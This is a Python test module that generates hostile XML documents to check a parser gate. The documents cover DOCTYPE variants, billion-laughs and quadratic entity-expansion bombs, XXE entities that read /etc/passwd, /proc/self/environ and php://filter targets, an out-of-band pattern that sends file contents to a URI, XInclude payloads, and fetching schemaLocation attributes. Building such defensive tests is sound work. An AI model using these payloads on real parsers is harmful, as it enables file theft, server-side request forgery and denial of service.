"""DTDs and entities of every kind, inclusion, and attributes that make a parser fetch something."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

from tests.schemas.gate.hostile.letter import DECLARATION, Hostile, document, letter

TARGETS = {
    "file": "file:///etc/passwd",
    "file-of-host": "file://127.0.0.1/etc/passwd",
    "path": "/etc/passwd",
    "relative": "../../secret.txt",
    "network-path": "//127.0.0.1:9/x",
    "share": "\\\\127.0.0.1\\c$\\x",
    "http": "http://127.0.0.1:9/x",
    "https": "https://127.0.0.1:9/x",
    "ftp": "ftp://127.0.0.1:9/x",
    "gopher": "gopher://127.0.0.1:9/x",
    "ldap": "ldap://127.0.0.1:9/x",
    "jar": "jar:http://127.0.0.1:9/a.zip!/x",
    "netdoc": "netdoc:/etc/passwd",
    "php": "php://filter/convert.base64-encode/resource=/etc/passwd",
    "expect": "expect://id",
    "data": "data:text/plain,x",
    "endless": "file:///dev/zero",
    "process": "file:///proc/self/environ",
}
_FORMS = {
    "name": "<!DOCTYPE Letter>",
    "empty-subset": "<!DOCTYPE Letter []>",
    "system": '<!DOCTYPE Letter SYSTEM "http://127.0.0.1:9/a.dtd">',
    "public": '<!DOCTYPE Letter PUBLIC "-//A//B//EN" "http://127.0.0.1:9/a.dtd">',
    "element": "<!DOCTYPE Letter [<!ELEMENT Letter ANY>]>",
    "attribute-default": '<!DOCTYPE Letter [<!ATTLIST Header to CDATA "000.00.00.H49">]>',
    "id-attribute": "<!DOCTYPE Letter [<!ATTLIST Header n ID #IMPLIED>]>",
    "notation": '<!DOCTYPE Letter [<!NOTATION n SYSTEM "x">]>',
    "entity": '<!DOCTYPE Letter [<!ENTITY x "y">]>',
    "lower-case": "<!doctype letter>",
    "unfinished": "<!DOCTYPE Letter [",
}
_PROLOGS = {
    "bare": b"",
    "declared": DECLARATION,
    "marked": b"\xef\xbb\xbf" + DECLARATION,
    "blank": b"\n\t \n",
    "far": DECLARATION + b" " * 5_000,
}


def documents() -> Iterator[Hostile]:
    for (form, text), (prolog, octets) in product(_FORMS.items(), _PROLOGS.items()):
        yield document(
            "doctype",
            f"{form}-{prolog}",
            "gate.doctype",
            letter(before=octets + text.encode()),
            twin=letter(before=octets),
        )
    yield from _expansions()
    yield from _external()
    yield from _loose()
    yield from _inclusions()
    yield from _fetching()


def _typed(subset: str, **holes: bytes) -> bytes:
    return letter(before=DECLARATION + f"<!DOCTYPE Letter [{subset}]>".encode(), **holes)


def _expansions() -> Iterator[Hostile]:
    for depth, width in product((2, 3, 5, 9, 12), (2, 10, 40)):
        levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, depth))
        subset = f'<!ENTITY e0 "ha">{levels}'
        for where in ("to", "attribute"):
            hole = {where: f"&e{depth - 1};".encode()}
            yield document("entity-expansion", f"{depth}-by-{width}-{where}", "gate.doctype", _typed(subset, **hole))
    for size in (1_000, 50_000, 500_000):
        subset = f'<!ENTITY e "{"a" * size}">'
        yield document("entity-expansion", f"quadratic-{size}", "gate.doctype", _typed(subset, to=b"&e;" * 1_000))
    yield document("entity-expansion", "of-itself", "gate.doctype", _typed('<!ENTITY e "&e;">', to=b"&e;"))
    subset = '<!ENTITY e "&f;"><!ENTITY f "&e;">'
    yield document("entity-expansion", "in-a-circle", "gate.doctype", _typed(subset, to=b"&e;"))
    subset = '<!ENTITY % p "&#37;p;%p;">%p;'
    yield document("entity-expansion", "parameter-of-itself", "gate.doctype", _typed(subset))


def _external() -> Iterator[Hostile]:
    for name, uri in TARGETS.items():
        general = f'<!ENTITY x SYSTEM "{uri}">'
        public = f'<!ENTITY x PUBLIC "p" "{uri}">'
        yield document("external-entity", f"{name}-in-text", "gate.doctype", _typed(general, to=b"&x;"))
        yield document("external-entity", f"{name}-public", "gate.doctype", _typed(public, to=b"&x;"))
        yield document("external-entity", f"{name}-unused", "gate.doctype", _typed(general))
        parameter = f'<!ENTITY % x SYSTEM "{uri}">%x;'
        sent = f'<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % o "<!ENTITY s SYSTEM \'{uri}?%f;\'>">%o;'
        yield document("parameter-entity", f"{name}-external", "gate.doctype", _typed(parameter))
        yield document("parameter-entity", f"{name}-sent-out", "gate.doctype", _typed(sent, to=b"&s;"))
        subset = f'<!DOCTYPE Letter SYSTEM "{uri}">'.encode()
        yield document("external-subset", name, "gate.doctype", letter(before=DECLARATION + subset))


def _loose() -> Iterator[Hostile]:
    """Declarations where none may stand: a parser that forgives would learn something from them."""
    kinds = {
        "entity": b'<!ENTITY x "y">',
        "element": b"<!ELEMENT Letter ANY>",
        "attlist": b"<!ATTLIST Header to CDATA 'x'>",
        "notation": b'<!NOTATION n SYSTEM "x">',
    }
    for (kind, text), hole in product(kinds.items(), ("before", "to", "body", "behind")):
        octets = letter(**{hole: DECLARATION + text if hole == "before" else text})
        yield document("declaration-without-doctype", f"{kind}-{hole}", "gate.entity", octets)
    for name, hole in product(
        ("x", "file", "nbsp", "eacute", "amp2", "xxe", "Quot", "LT"), ("to", "attribute", "body")
    ):
        octets = letter(**{hole: f"&{name};".encode()})
        good = letter(**{hole: b"&amp;&lt;&gt;&quot;&apos;"})
        yield document("entity-nobody-declared", f"{name}-{hole}", "gate.malformed", octets, twin=good)


def _inclusions() -> Iterator[Hostile]:
    namespaces = {"2001": "http://www.w3.org/2001/XInclude", "2003": "http://www.w3.org/2003/XInclude"}
    forms = {
        "xml": '<i:include href="{0}"/>',
        "text": '<i:include href="{0}" parse="text" encoding="UTF-16"/>',
        "pointer": '<i:include xpointer="xpointer(/)" href="{0}"/>',
        "fallback": '<i:include href="{0}"><i:fallback/></i:include>',
        "attribute": '<Other i:href="{0}"/>',
    }
    for (year, uri), (form, text), target in product(namespaces.items(), forms.items(), ("file", "http", "relative")):
        body = text.format(TARGETS[target]).replace(" ", f' xmlns:i="{uri}" ', 1).encode()
        yield document("xinclude", f"{year}-{form}-{target}", "gate.xinclude", letter(body=body))


def _fetching() -> Iterator[Hostile]:
    xsi = ' xmlns:s="http://www.w3.org/2001/XMLSchema-instance"'
    attributes = {
        "schema-location": xsi + ' s:schemaLocation="urn:example:letter {0}"',
        "schema-location-none": xsi + ' s:noNamespaceSchemaLocation="{0}"',
        "base": ' xml:base="{0}"',
        "xml-id": ' xml:id="{0}"',
    }
    for (kind, text), target, hole in product(attributes.items(), ("file", "http", "relative"), ("root", "header")):
        octets = letter(**{hole: text.format(TARGETS[target]).encode()})
        good = letter(**{hole: b' xml:lang="vi"'})
        yield document(
            "attribute-that-fetches", f"{kind}-{target}-{hole}", "gate.forbidden-attribute", octets, twin=good
        )
